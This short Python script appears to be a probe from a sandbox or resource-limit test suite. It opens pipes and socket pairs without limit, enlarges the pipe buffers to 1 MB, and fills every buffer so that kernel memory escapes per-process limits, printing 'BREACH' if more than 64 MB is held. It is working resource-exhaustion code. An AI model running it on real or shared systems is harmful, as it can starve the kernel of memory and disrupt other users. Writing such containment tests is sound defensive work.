"""Tries: to fill the kernel's memory through pipes, sockets and event files.
Gain: memory that no limit of the process counts.
Known from: pipe buffers of 1 MB each by F_SETPIPE_SZ.
"""
import fcntl
import os
import socket

held, bytes_in = [], 0
try:
    while True:
        pair = os.pipe()
        held.append(pair)
        try:
            fcntl.fcntl(pair[1], 1031, 1 << 20)
        except OSError:
            pass
        os.set_blocking(pair[1], False)
        try:
            while True:
                bytes_in += os.write(pair[1], bytes(65536))
        except BlockingIOError:
            pass
except OSError:
    pass
try:
    while True:
        pair = socket.socketpair()
        held.append(pair)
        pair[0].setblocking(False)
        try:
            while True:
                bytes_in += pair[0].send(bytes(65536))
        except BlockingIOError:
            pass
except OSError:
    pass
if bytes_in > 64 << 20:
    print("BREACH", bytes_in >> 20, "MB in the kernel")
